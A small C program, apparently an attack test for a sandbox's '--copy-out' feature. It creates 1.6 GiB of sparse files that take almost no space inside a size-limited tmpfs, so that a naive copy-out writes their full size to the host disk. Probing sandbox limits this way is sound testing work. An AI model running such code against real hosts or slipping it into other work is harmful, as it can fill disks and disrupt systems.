/*
 * sparse.c -- ATTACK: make the host-side copy-out (--copy-out DIR) write far
 * more than the working directory's size limit.
 *
 * Usage: ./sparse MARKER
 * Sparse files take (almost) no space in the working dir's tmpfs, so a size
 * limit on the tmpfs does not stop them, but a naive copy-out writes their full
 * apparent size, zeros included, to the host disk.  Creates huge.img (1 GiB
 * apparent) and 40 files of 16 MiB apparent size each (640 MiB), each with one
 * real byte at the end, plus small.txt with real content.  One process, no
 * helper programs: the attack costs no CPU to speak of, even on an emulated CPU.
 * Prints "SPARSE <apparent bytes total>" and "DU_KIB <KiB really used>".
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static int make(const char *name, off_t size, int last_byte, long long *kib) {
    int fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) { perror(name); return -1; }
    if (ftruncate(fd, size) < 0) { perror("ftruncate"); return -1; }
    if (last_byte && pwrite(fd, "x", 1, size - 1) != 1) { perror("pwrite"); return -1; }
    struct stat st;
    if (fstat(fd, &st) == 0) *kib += st.st_blocks / 2;
    close(fd);
    return 0;
}

int main(void) {
    long long kib = 0;
    FILE *f = fopen("small.txt", "w");
    if (!f || fputs("small\n", f) < 0 || fclose(f) != 0) { perror("small.txt"); return 1; }
    if (make("huge.img", 1LL << 30, 0, &kib) < 0) return 1;
    for (int i = 0; i < 40; i++) {
        char name[32];
        snprintf(name, sizeof name, "s%d.img", i);
        if (make(name, 16 << 20, 1, &kib) < 0) return 1;
    }
    printf("SPARSE %lld\n", (1LL << 30) + 40LL * (16 << 20));
    printf("DU_KIB %lld\n", kib + 4);
    return 0;
}
